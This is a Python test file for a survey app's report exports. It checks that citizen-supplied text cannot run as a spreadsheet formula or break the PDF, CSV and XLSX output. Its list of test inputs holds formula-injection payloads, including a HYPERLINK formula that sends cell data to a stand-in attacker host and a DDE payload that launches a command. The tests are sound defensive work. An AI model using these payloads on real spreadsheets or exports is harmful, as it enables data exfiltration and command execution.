"""A citizen's text can neither stop a report nor run as a formula in any file made of it.

Comments and search terms start with formula characters (OWASP's list: = + - @ tab and
carriage return), carry control characters and reportlab markup; the report is built in
full and every XLSX cell and CSV cell is read back with real readers.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pdfplumber
import pytest
from openpyxl import load_workbook

from survey import safetext
from survey.extensions import db
from survey.models import Organisation
from survey.reports import charts, pdf, spreadsheet
from survey.reports.data import ReasonRow
from survey.services import reports
from survey.services.apikeys import create_api_key
from survey.services.responses import record_many
from survey.services.users import add_user
from tests.reports.data import PHONE, load_month, october, payload

# Texts a stranger can store (PostgreSQL refuses NUL, so NUL is tried on the renderers).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1 na een tab",
    "bel\x0bme terug\x0c nu",
    "\x1b[31mrood\x1b[0m gemaakt",
    "<b>vet</b> & <font color=red>rood</font>",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PASSWORD = "a long password"


def _hostile_month() -> None:
    load_month()
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(payload(*PHONE, {"cijfer": 5, "toelichting": text}, october(27, 8 + i)))
    for i in range(12):
        text = HOSTILE[i % len(HOSTILE)]
        rows.append(
            payload(
                "website",
                "website",
                "popup",
                1.0,
                {"geholpen": "no", "gezocht": text},
                october(3 + i),
                page_path="/afval",
            )
        )
    record_many(rows)


def _cells_of_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")  # a negative number is a number, not a formula


def _assert_no_formula_text(value) -> None:
    if isinstance(value, str):
        assert NUMBER.match(value) or not value.startswith(FORMULA_START), repr(value)
        assert safetext.clean(value) == value, repr(value)


@pytest.fixture
def hostile_report(demo_org):
    _hostile_month()
    return reports.build_monthly_report("demo", "2026-10")


def test_report_is_built_and_no_xlsx_cell_is_a_formula(hostile_report):
    assert hostile_report.status == "ok" and hostile_report.last_error is None
    cells = list(_cells_of_xlsx(hostile_report.xlsx))
    assert all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        _assert_no_formula_text(cell.value)
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE[0] in values  # the comment, kept readable as text
    assert "'@sum(a1:a9)" in values  # the search term (grouped lower case)
    assert "belme terug nu" in values and "[31mrood[0m gemaakt" in values


def test_every_report_csv_cell_is_neutralised(hostile_report, app):
    data = reports.stored_data(hostile_report)
    seen = []
    for name in spreadsheet.tables(data):
        text = spreadsheet.table_csv(data, name)
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"):
            for value in row:
                _assert_no_formula_text(value)
                seen.append(value)
    assert "'" + HOSTILE[0] in seen and "'+SUM(1,2)" in seen


def test_pdf_shows_markup_as_text(hostile_report):
    with pdfplumber.open(io.BytesIO(hostile_report.pdf)) as doc:
        text = "\n".join(page.extract_text() or "" for page in doc.pages)
    assert "<b>vet</b> & <font color=red>rood</font>" in text
    assert "\x0b" not in text and "\x1b" not in text


def test_renderers_survive_nul_lone_surrogates_and_markup(app, demo_org):
    load_month()
    org = db.session.query(Organisation).filter_by(slug="demo").one()
    data = reports.report_data(org, reports._month("2026-10"))
    nasty = "\x00=1+1 \ud800 <b>&\x1b[0m"
    data = replace(
        data,
        comments=(replace(data.comments[0], text=nasty), *data.comments[1:]),
        channels=(replace(data.channels[0], name=nasty), *data.channels[1:]),
        reasons=replace(
            data.reasons, rows=(*data.reasons.rows, ReasonRow("x", nasty, 1, 0.1))
        ),
    )
    assert pdf.render(data).startswith(b"%PDF")
    for name in charts.CHARTS:
        assert "\x00" not in charts.svg(name, data)
    cells = list(_cells_of_xlsx(spreadsheet.xlsx(data)))
    assert all(cell.data_type != "f" for cell in cells)
    assert "'=1+1  <b>&[0m" in {cell.value for cell in cells}
    assert "'=1+1  <b>&[0m" in spreadsheet.table_csv(data, "comments")


def test_staff_raw_responses_csv_is_neutralised(client, hostile_report):
    add_user("demo@example.nl", PASSWORD, "demo", role="analyst")
    client.post("/staff/login", data={"email": "demo@example.nl", "password": PASSWORD})
    raw = client.get(f"/staff/demo/reports/{hostile_report.id}/responses").get_data(as_text=True)
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.removeprefix("\ufeff")), delimiter=";"))
    for row in rows:
        for value in row:
            _assert_no_formula_text(value)
    cells = {value for row in rows for value in row}
    assert "'" + HOSTILE[0] in cells and "'@SUM(A1:A9)" in cells


def test_api_csv_stays_machine_readable_but_neutralised(client, demo_org):
    _hostile_month()
    key = create_api_key("demo", "export")
    text = client.get(
        "/api/v1/responses?format=csv&survey=telefoon",
        headers={"Authorization": f"Bearer {key}"},
    ).get_data(as_text=True)
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    comments = [r["answer.toelichting"] for r in rows if r["answer.toelichting"]]
    assert "'" + HOSTILE[0] in comments and "'=1+1 na een tab" in comments  # stored trimmed
    for row in rows:
        for value in row.values():
            _assert_no_formula_text(value)
    # Still the machine format: codes, a decimal point, True/False.
    phone = next(r for r in rows if r["inclusion_probability"] == "0.5")
    assert phone["contact_channel"] == "phone" and phone["suspect"] == "False"
